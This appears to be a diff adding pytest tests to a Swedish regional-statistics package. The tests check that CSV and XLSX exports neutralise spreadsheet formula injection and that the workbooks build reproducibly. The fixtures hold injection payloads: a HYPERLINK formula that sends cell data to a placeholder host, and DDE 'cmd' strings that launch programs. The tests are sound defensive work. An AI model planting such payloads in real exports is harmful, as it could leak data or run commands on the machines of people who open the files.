@@ -257,3 +257,109 @@ def test_9_impossible_kolada_values_name_the_source_file(tmp_path, project_tmp, 
                                               (kpi, "0009", 2023, 10.0)])
     message = one_line_error(load_observations, snap)
     assert f"{kpi}.json" in message and "observationstabellen" not in message
+
+
+# --- 3. formula injection ----------------------------------------------------------------------
+
+EVIL = '=HYPERLINK("http://example.invalid/?x="&A1;"Klicka")'
+
+
+@pytest.mark.parametrize(("cell", "safe"), [
+    (EVIL, "'" + EVIL), ("+SUM(A1:A9)", "'+SUM(A1:A9)"), ("-2+3+cmd|' /C calc'!A0", None),
+    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"),
+    ("-3,2", "-3,2"), ("+4", "+4"), ("-0.5 %", "-0.5 %"), ("Ja", "Ja"), (12.5, 12.5), ("-", "'-"),
+])
+def test_3_text_cells_that_spreadsheets_run_get_a_quote(cell, safe):
+    from naravard.export_safety import neutralise
+
+    assert neutralise(cell) == (safe if safe is not None else "'" + cell)
+
+
+@pytest.fixture(scope="module")
+def evil_rep(snapshot_dir, tmp_path_factory):
+    """Västerbotten 2024 with a catalogue name that is a formula."""
+    import dataclasses
+
+    from naravard import report
+    from naravard.catalog import Catalog
+    from naravard.table import load_observations
+
+    base = load_catalog()
+    first = base.indicators[0]
+    catalog = dataclasses.replace(base, indicators=(dataclasses.replace(first, name=EVIL),
+                                                    *base.indicators[1:]))
+    obs = load_observations(snapshot_dir, catalog=catalog)
+    assert isinstance(catalog, Catalog)
+    return report.prepare("Västerbotten", 2024, obs=obs, catalog=catalog, figures=None)
+
+
+def _xlsx_cells(data: bytes) -> list:
+    import io
+
+    import openpyxl
+
+    book = openpyxl.load_workbook(io.BytesIO(data))
+    return [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+
+
+def test_3_a_catalogue_name_reaches_csv_and_xlsx_as_text(evil_rep):
+    from naravard import report
+
+    csv_text = report.export_csv_bytes(evil_rep).decode("utf-8-sig")
+    assert f"'{EVIL}" in csv_text.replace('""', '"')
+    assert not any(line.split(";")[1].startswith("=") for line in csv_text.splitlines()[1:])
+    cells = _xlsx_cells(report.export_xlsx_bytes(evil_rep))
+    assert "'" + EVIL in [c.value for c in cells]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+
+
+def test_3_the_national_workbook_is_neutralised(evil_rep):
+    from naravard import national
+
+    nat = national.prepare(2024, obs=evil_rep.obs, catalog=evil_rep.catalog, figures=None)
+    cells = _xlsx_cells(national.export_xlsx_bytes(nat))
+    assert "'" + EVIL in [c.value for c in cells]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+
+
+def test_3_columns_added_later_are_covered_by_the_writers(evil_rep, monkeypatch):
+    """A regional note and a questionnaire answer, in columns the writers do not know."""
+    from naravard import report
+
+    original = report.export_frame
+
+    def with_more(rep):
+        frame = original(rep)
+        frame["Anmärkning"] = "-1+1 @ regionens not"
+        frame["Svar"] = "@SUM(1+1)*cmd|' /C calc'!A0"
+        return frame
+
+    monkeypatch.setattr(report, "export_frame", with_more)
+    csv_text = report.export_csv_bytes(evil_rep).decode("utf-8-sig")
+    assert ";'-1+1 @ regionens not;'@SUM" in csv_text
+    values = [c.value for c in _xlsx_cells(report.export_xlsx_bytes(evil_rep))]
+    assert "'-1+1 @ regionens not" in values and "-1+1 @ regionens not" not in values
+
+
+def test_3_negative_numbers_stay_numbers_in_the_csv(evil_rep):
+    from naravard import report
+
+    csv_text = report.export_csv_bytes(evil_rep).decode("utf-8-sig")
+    assert ";'-" not in csv_text  # no number got a quote
+    assert re.search(r";-\d", csv_text)
+
+
+# --- 14. SOURCE_DATE_EPOCH in the workbooks -----------------------------------------------------
+
+def test_14_xlsx_is_identical_under_source_date_epoch(evil_rep, monkeypatch):
+    from naravard import report
+
+    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1735689600")
+    first = report.export_xlsx_bytes(evil_rep)
+    time.sleep(2.1)  # the zip format's clock ticks in 2 s steps
+    assert report.export_xlsx_bytes(evil_rep) == first
+    import io
+    import zipfile
+
+    core = zipfile.ZipFile(io.BytesIO(first)).read("docProps/core.xml").decode()
+    assert core.count("2025-01-01T00:00:00Z") == 2
